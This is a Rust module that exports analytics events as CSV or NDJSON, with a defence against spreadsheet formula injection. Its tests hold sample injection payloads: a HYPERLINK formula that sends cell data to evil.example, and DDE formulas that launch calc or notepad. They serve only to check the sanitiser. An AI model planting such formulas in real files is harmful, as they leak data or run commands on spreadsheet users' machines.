//! ExportEvents: matching events, oldest first, as CSV (RFC 4180, with a
//! header) or newline-delimited JSON (the proto3 JSON form of `Event`), in
//! chunks of whole rows of at most 256 KiB, read from the store a page at a
//! time so memory stays flat however many events match.
//!
//! CSV files are opened in spreadsheets, and most of their cells are text an
//! API key's holder chose (keys ship inside client apps). Every cell is made
//! inert by the OWASP CSV-injection rule ([`inert_cell`]): one that starts
//! with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so
//! a spreadsheet shows it as text instead of running it. The export has no
//! numeric column (times are RFC 3339 text, properties a JSON object), so no
//! cell is exempt; a consumer that needs the exact values reads NDJSON,
//! which no spreadsheet evaluates and which is never altered.

use std::borrow::Cow;

use futures::Stream;
use metrix_core::time::{now_micros, rfc3339};
use metrix_proto::metrics::v1::ExportEventsResponse;
use serde_json::{Map, Value, json};
use tonic::Status;

use crate::events::{EventSelection, NewEvent};
use crate::store::MetricsStore;
use crate::store::events::{EventCursor, EventOrder};

/// The largest chunk, in bytes.
pub const MAX_CHUNK_BYTES: usize = 256 * 1024;
/// Events read from the store per query.
const PAGE: u32 = 1_000;
/// The CSV columns, in order.
pub const CSV_COLUMNS: [&str; 13] = [
    "event_id",
    "app_id",
    "user_id",
    "event_type",
    "event_name",
    "session_id",
    "timestamp",
    "sent_at",
    "received_at",
    "corrected_timestamp",
    "user_agent",
    "ip",
    "properties",
];

/// An export format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// Comma-separated values with a header row.
    Csv,
    /// One JSON object per line.
    Ndjson,
}

impl Format {
    /// The file's extension.
    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Ndjson => "ndjson",
        }
    }

    /// The MIME type of the file.
    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv",
            Format::Ndjson => "application/x-ndjson",
        }
    }
}

fn optional_time(micros: Option<i64>) -> String {
    micros.map(rfc3339).unwrap_or_default()
}

/// The first characters that make a spreadsheet read a cell as a formula
/// (OWASP's CSV-injection list).
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Characters that make a cell quoted: the comma, the semicolon and the tab
/// (separators in some locales and import dialogs, which could otherwise
/// start a new cell inside this one), the quote and line breaks.
const NEEDS_QUOTING: [char; 6] = [',', ';', '\t', '"', '\r', '\n'];

/// `cell` as a spreadsheet must show it: prefixed with `'` when it starts
/// with one of [`FORMULA_TRIGGERS`], so that `=HYPERLINK(…)`, `@SUM(…)` or
/// `+1+1` stays text. Every cell goes through it, whatever its column.
pub fn inert_cell(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// One CSV record (with its CRLF line break): each cell made inert
/// ([`inert_cell`]), then quoted (RFC 4180, quotes doubled) when it holds a
/// separator, a quote or a line break.
pub fn csv_row(fields: &[&str]) -> String {
    let mut row = String::new();
    for (index, field) in fields.iter().enumerate() {
        if index > 0 {
            row.push(',');
        }
        let cell = inert_cell(field);
        if cell.contains(NEEDS_QUOTING) {
            row.push('"');
            row.push_str(&cell.replace('"', "\"\""));
            row.push('"');
        } else {
            row.push_str(&cell);
        }
    }
    row.push_str("\r\n");
    row
}

/// One event as a CSV record.
pub fn event_csv(event: &NewEvent) -> String {
    csv_row(&[
        &event.event_id,
        &event.app_id,
        &event.user_id,
        &event.event_type,
        &event.event_name,
        &event.session_id,
        &optional_time(event.client_timestamp),
        &optional_time(event.sent_at),
        &rfc3339(event.received_at),
        &rfc3339(event.occurred_at),
        &event.user_agent,
        &event.ip,
        &event.properties_json,
    ])
}

/// One event as a line of JSON in the proto3 mapping of `Event` (default
/// values omitted, timestamps in RFC 3339).
pub fn event_json_line(event: &NewEvent, organization_id: &str) -> String {
    let mut object = Map::new();
    let mut text = |key: &str, value: &str| {
        if !value.is_empty() {
            object.insert(key.to_owned(), Value::String(value.to_owned()));
        }
    };
    text("eventId", &event.event_id);
    text("organizationId", organization_id);
    text("appId", &event.app_id);
    text("userId", &event.user_id);
    text("eventType", &event.event_type);
    text("eventName", &event.event_name);
    text("sessionId", &event.session_id);
    text("timestamp", &optional_time(event.client_timestamp));
    text("sentAt", &optional_time(event.sent_at));
    text("receivedAt", &rfc3339(event.received_at));
    text("correctedTimestamp", &rfc3339(event.occurred_at));
    text("userAgent", &event.user_agent);
    text("ip", &event.ip);
    let properties: Value = serde_json::from_str(&event.properties_json).unwrap_or_else(|_| json!({}));
    if properties.as_object().is_some_and(|fields| !fields.is_empty()) {
        object.insert("properties".to_owned(), properties);
    }
    let mut line = Value::Object(object).to_string();
    line.push('\n');
    line
}

/// The chunks of an export.
pub fn export_stream(
    store: MetricsStore,
    organization_id: String,
    selection: EventSelection,
    format: Format,
) -> impl Stream<Item = Result<ExportEventsResponse, Status>> + Send {
    struct Progress {
        cursor: Option<EventCursor>,
        pending: Vec<String>,
        header_sent: bool,
        chunks_sent: usize,
        exhausted: bool,
        finished: bool,
    }
    let progress = Progress {
        cursor: None,
        pending: Vec::new(),
        header_sent: false,
        chunks_sent: 0,
        exhausted: false,
        finished: false,
    };
    // events-20261205T101500Z.csv: when the export started, in UTC.
    let started: String = rfc3339(now_micros())
        .chars()
        .take(19)
        .filter(|character| !matches!(character, '-' | ':'))
        .collect();
    let filename = format!("events-{started}Z.{}", format.extension());
    futures::stream::unfold(progress, move |mut progress| {
        let store = store.clone();
        let organization_id = organization_id.clone();
        let selection = selection.clone();
        let filename = filename.clone();
        async move {
            if progress.finished {
                return None;
            }
            let mut data = String::new();
            if !progress.header_sent {
                if format == Format::Csv {
                    data.push_str(&csv_row(&CSV_COLUMNS));
                }
                progress.header_sent = true;
            }
            let mut event_count: i64 = 0;
            loop {
                if progress.pending.is_empty() && !progress.exhausted {
                    let page = match store
                        .list_events(
                            &organization_id,
                            &selection,
                            progress.cursor.as_ref(),
                            PAGE,
                            EventOrder::OldestFirst,
                        )
                        .await
                    {
                        Ok(page) => page,
                        Err(error) => {
                            progress.finished = true;
                            return Some((Err(Status::from(error)), progress));
                        }
                    };
                    progress.exhausted = page.len() < PAGE as usize;
                    progress.cursor = page.last().map(|last| EventCursor {
                        occurred_at: last.occurred_at,
                        event_id: last.event_id.clone(),
                    });
                    // Reversed so rows are taken from the end in order.
                    progress.pending = page
                        .iter()
                        .rev()
                        .map(|event| match format {
                            Format::Csv => event_csv(event),
                            Format::Ndjson => event_json_line(event, &organization_id),
                        })
                        .collect();
                }
                let Some(row) = progress.pending.last() else {
                    progress.finished = true;
                    break;
                };
                if !data.is_empty() && data.len() + row.len() > MAX_CHUNK_BYTES {
                    break;
                }
                if let Some(row) = progress.pending.pop() {
                    data.push_str(&row);
                    event_count += 1;
                }
            }
            // Every export answers at least once (an NDJSON export of nothing
            // is one empty chunk); no empty chunk follows a full one.
            if data.is_empty() && progress.chunks_sent > 0 {
                return None;
            }
            progress.chunks_sent += 1;
            Some((
                Ok(ExportEventsResponse {
                    data,
                    event_count,
                    content_type: format.content_type().to_owned(),
                    filename: filename.clone(),
                }),
                progress,
            ))
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event() -> NewEvent {
        NewEvent {
            event_id: "e-1".into(),
            app_id: "web".into(),
            user_id: "u-1".into(),
            event_type: "signup".into(),
            event_name: "Signed \"up\", finally".into(),
            properties_json: r#"{"plan":"pro"}"#.into(),
            session_id: "s-1".into(),
            client_timestamp: None,
            sent_at: None,
            received_at: 1_795_305_600_000_000,
            occurred_at: 1_795_305_600_000_000,
            user_agent: "curl/8".into(),
            ip: "203.0.113.7".into(),
        }
    }

    #[test]
    fn csv_rows_quote_what_needs_quoting() {
        assert_eq!(
            event_csv(&event()),
            "e-1,web,u-1,signup,\"Signed \"\"up\"\", finally\",s-1,,,2026-11-22T00:00:00Z,2026-11-22T00:00:00Z,curl/8,203.0.113.7,\"{\"\"plan\"\":\"\"pro\"\"}\"\r\n"
        );
        assert!(csv_row(&CSV_COLUMNS).starts_with("event_id,app_id,"));
    }

    /// Cells as a CSV reader reads them back (the row behind a header, as in
    /// an export, so that a byte-order mark opening a cell stays data).
    fn parsed(row: &str) -> Vec<String> {
        let file = format!("header\r\n{row}");
        let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(file.as_bytes());
        let record = reader.records().next().expect("one record").expect("valid csv");
        record.iter().map(str::to_owned).collect()
    }

    #[test]
    fn formula_cells_are_made_inert_in_every_column() {
        let payloads = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "=1+1",
            "\t=1+1",
            "\r=1+1",
            "=cmd|' /C notepad'!'A1'",
        ];
        for payload in payloads {
            let hostile = NewEvent {
                event_id: payload.into(),
                app_id: payload.into(),
                user_id: payload.into(),
                event_type: payload.into(),
                event_name: payload.into(),
                session_id: payload.into(),
                user_agent: payload.into(),
                ip: payload.into(),
                properties_json: payload.into(),
                ..event()
            };
            let cells = parsed(&event_csv(&hostile));
            assert_eq!(cells.len(), CSV_COLUMNS.len());
            for (column, cell) in CSV_COLUMNS.iter().zip(&cells) {
                assert!(
                    !cell.starts_with(FORMULA_TRIGGERS),
                    "{column} starts with a formula trigger: {cell:?}"
                );
            }
            assert_eq!(cells[4], format!("'{payload}"), "the value survives behind the quote");
        }
    }

    #[test]
    fn harmless_cells_are_untouched_and_separators_are_quoted() {
        assert_eq!(inert_cell("plain"), "plain");
        assert_eq!(inert_cell("a=b"), "a=b", "only the first character matters");
        assert_eq!(csv_row(&["a;=1+1", "b\t-2", "c"]), "\"a;=1+1\",\"b\t-2\",c\r\n");
        assert_eq!(csv_row(&["-", ""]), "'-,\r\n");
    }

    proptest::proptest! {
        #[test]
        fn rows_read_back_as_their_inert_cells(cells in proptest::collection::vec(".*", 2..6)) {
            let fields: Vec<&str> = cells.iter().map(String::as_str).collect();
            let read = parsed(&csv_row(&fields));
            let expected: Vec<String> = cells.iter().map(|cell| inert_cell(cell).into_owned()).collect();
            proptest::prop_assert_eq!(&read, &expected);
            for cell in read {
                proptest::prop_assert!(!cell.starts_with(FORMULA_TRIGGERS));
            }
        }
    }

    #[test]
    fn json_lines_follow_the_proto3_mapping() {
        let line = event_json_line(&event(), "org-1");
        assert!(line.ends_with('\n'));
        let value: Value = serde_json::from_str(&line).expect("json");
        assert_eq!(value["eventId"], "e-1");
        assert_eq!(value["correctedTimestamp"], "2026-11-22T00:00:00Z");
        assert_eq!(value["properties"]["plan"], "pro");
        assert!(value.get("sentAt").is_none(), "defaults are omitted");
    }
}
